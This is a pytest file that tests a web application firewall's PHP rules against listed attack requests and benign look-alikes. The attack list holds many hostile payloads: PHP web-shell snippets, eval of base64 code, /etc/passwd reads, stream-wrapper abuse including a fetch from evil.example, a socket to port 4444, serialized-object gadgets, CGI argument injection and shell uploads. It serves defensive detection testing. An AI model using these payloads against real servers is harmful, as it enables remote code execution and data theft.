"""PHP rules: PHP code injection, wrappers, serialized objects and PHP uploads."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from airlock_filters import Request

from . import requests as build
from .requests import (
    assert_blocked,
    cookie,
    form,
    get,
    header,
    json_body,
    matched_keys,
    rule_ids,
    upload,
    xml_body,
)

KEY = "PHP"


def query(value: str, name: str = "q") -> Request:
    return build.query(value, name, path="/index.php")


PAYLOAD_B64 = base64.b64encode(b"<?php system($_GET['c']); ?>").decode()

ATTACKS = [
    # Opening tags and code blocks.
    query("<?php system($_GET['c']); ?>"),
    query("<?= `id` ?>"),
    query("<? passthru('ls'); ?>"),
    query("<?PhP echo 1;"),
    form("[php]echo file_get_contents('/etc/passwd');[/php]"),
    # Execution and evaluation functions, with comment and line-break evasions.
    query("system('id')"),
    query("@system('cat /etc/passwd');"),
    query('exec("whoami")'),
    query("passthru ('uname -a')"),
    query("shell_exec('id')"),
    query("eval($_POST['x']);"),
    query("eval(base64_decode('ZWNobyAxOw=='));"),
    query("assert($_REQUEST['a'])"),
    query("system/**/('id')"),
    query("exec\n('id')"),
    query("exec #c\n ('id')"),
    query("preg_replace('/.*/e', $_GET['c'], '')"),
    query("call_user_func('system', 'id')"),
    query("create_function('', $_GET['c'])"),
    query("array_map('system', array('id'))"),
    query("file_put_contents('shell.php', $_POST['c'])"),
    query("fsockopen('198.51.100.7', 4444)"),
    query("gzinflate(str_rot13(base64_decode('x')))"),
    query("phpinfo()"),
    query("chr(115).chr(121).chr(115)"),
    # Superglobals and variable functions.
    query("$_SERVER['HTTP_USER_AGENT']"),
    query("$GLOBALS['x']"),
    query("$f='system';$f('id');"),
    query("$_GET[0]($_GET[1])"),
    query("${'_GE'.'T'}['c']"),
    query("$a /*x*/ ('id')"),
    # Function names assembled or quoted.
    query("('sys'.'tem')('id')"),
    query("(system)('id')"),
    query("\"system\"('id')"),
    query("[system][0]('id')"),
    # Wrappers.
    query("php://filter/convert.base64-encode/resource=index.php", "page"),
    query("php://input", "file"),
    query("phar://uploads/avatar.jpg/shell", "file"),
    query("expect://id", "file"),
    query("zip://uploads/x.zip#shell.php", "file"),
    query("compress.zlib://http://evil.example/x", "file"),
    query("data://text/plain;base64," + PAYLOAD_B64, "file"),
    query(PAYLOAD_B64, "data"),
    # Serialized objects, php.ini directives, CGI arguments.
    query('O:8:"Example":1:{s:4:"file";s:11:"/etc/passwd";}', "data"),
    cookie('O:20:"Monolog\\Handler\\Test":0:{}', "theme=dark; prefs="),
    form("allow_url_include=On", "value"),
    form("auto_prepend_file=php://input", "value"),
    get("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    get("/index.php?%ADd+allow_url_include%3d1"),
    # Uploads.
    upload("shell.php"),
    upload("shell.phtml"),
    upload("shell.php5"),
    upload("shell.phar"),
    upload("shell.php. "),
    upload(".htaccess"),
    upload(".user.ini"),
    header("X-File-Name", "avatar.php"),
    header("X-Filename", "sess_0123456789abcdefghijklmn"),
    # Every kind of field and encoding.
    json_body({"template": "<?php eval($_GET['x']); ?>"}),
    header("User-Agent", "<?php system('id'); ?>"),
    header("Referer", "https://shop.example.com/?q=%3C%3Fphp%20phpinfo()%3B"),
    cookie("system('id')", "theme=dark; prefs="),
    get("/index.php?q=" + quote(quote("<?php phpinfo(); ?>"))),
    form("&lt;?php system('id'); ?&gt;", "html"),
]

BENIGN = [
    query("PHP developer jobs"),
    query("php 8.3 release notes"),
    query("Choose file(s)"),
    query("Windows system (64-bit)"),
    query("Release date (2024)"),
    query("Print (color)"),
    query("Exec (executive) summary template"),
    query("eval form template for employees"),
    query("file (max 5MB)"),
    query("header (optional)"),
    query("$AAPL (Apple) is up"),
    query("$5 (five dollars)"),
    query("(a)(1) of the contract"),
    query("section 3(a)(ii)"),
    query('He said "no" (again)'),
    query("O:8 train departs at 9"),
    query("Hello {{name}}"),
    query("zip code 10001"),
    query("my_function_name"),
    query("print('hello')"),
    query("is_active"),
    query("/account.php", "next"),
    query("index.php?page=2", "redirect"),
    query("https://example.com/login.php", "return"),
    query("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4", "a"),
    query("engine=v8", "opts"),
    xml_body('<?xml version="1.0" encoding="UTF-8"?><order><id>5</id></order>', path="/api/orders"),
    json_body({"session": "sess_abc", "file": "report.php.txt"}),
    upload("report.pdf"),
    upload("photo.jpg"),
    upload("index.html"),
    header("X-File-Name", "holiday-photo.jpeg"),
    header(
        "User-Agent", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"
    ),
]

STRICT_ONLY = [
    upload("avatar.php.jpg"),
    query('a:2:{i:0;s:1:"a";i:1;s:1:"b";}', "data"),
]

BASIC = [
    get("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dx"),
    query("<?php phpinfo(); ?>"),
    query("php://filter/resource=index.php", "page"),
    query("eval(base64_decode($_POST['x']))"),
    query(PAYLOAD_B64, "data"),
]


@pytest.mark.parametrize("request_", ATTACKS)
def test_attacks_blocked_at_standard(request_: Request) -> None:
    assert_blocked(request_, KEY)


@pytest.mark.parametrize("request_", BENIGN)
def test_look_alikes_pass_at_standard(request_: Request) -> None:
    assert KEY not in matched_keys(request_)


@pytest.mark.parametrize("request_", STRICT_ONLY)
def test_strict_only(request_: Request) -> None:
    assert KEY not in matched_keys(request_, "Standard")
    assert KEY in matched_keys(request_, "Strict")


@pytest.mark.parametrize("request_", BASIC)
def test_blocked_at_basic(request_: Request) -> None:
    assert KEY in matched_keys(request_, "Basic")


def test_standard_rules_are_off_at_basic() -> None:
    request = query("system('id')")
    assert KEY not in matched_keys(request, "Basic")
    assert KEY in matched_keys(request, "Standard")


@pytest.mark.parametrize("request_", ATTACKS[::3] + BENIGN[::3])
def test_re2_twin_agrees(request_: Request) -> None:
    assert rule_ids(request_, KEY, "re2") == rule_ids(request_, KEY)
